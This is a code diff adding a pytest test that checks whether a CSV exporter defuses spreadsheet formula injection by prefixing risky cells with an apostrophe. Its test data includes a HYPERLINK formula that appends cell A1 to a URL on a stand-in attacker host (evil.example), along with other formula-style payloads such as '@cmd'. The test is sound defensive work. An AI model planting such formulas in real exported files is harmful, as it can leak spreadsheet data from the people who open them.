@@ -47,6 +47,17 @@ def test_csv_has_a_bom_one_zero_booleans_and_iso_dates():
     assert text == BOM + 'flag,day,note\r\n1,2024-03-01,\r\n0,,"say ""hi"""\r\n'
 
 
+def test_csv_defuses_formula_like_text_but_keeps_numbers():
+    # The CSV carries a BOM precisely so Excel opens it; a quote such as this one would run there.
+    quote = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rows = [(quote, "+SUM(1,2)", -1), ("-1+2", "@cmd", 2.5), ("\tx", "\rx", None)]
+    content = b"".join(csv_chunks(["quote", "memo", "n"], rows)).decode("utf-8-sig")
+    lines = list(csv.reader(io.StringIO(content)))
+    assert lines[1] == ["'" + quote, "'+SUM(1,2)", "-1"]
+    assert lines[2] == ["'-1+2", "'@cmd", "2.5"]
+    assert lines[3] == ["'\tx", "'\rx", ""]
+
+
 def test_it_refuses_column_names_a_statistics_package_would_rename():
     with pytest.raises(ValueError, match="snake_case"):
         list(csv_chunks(["Actor name"], []))
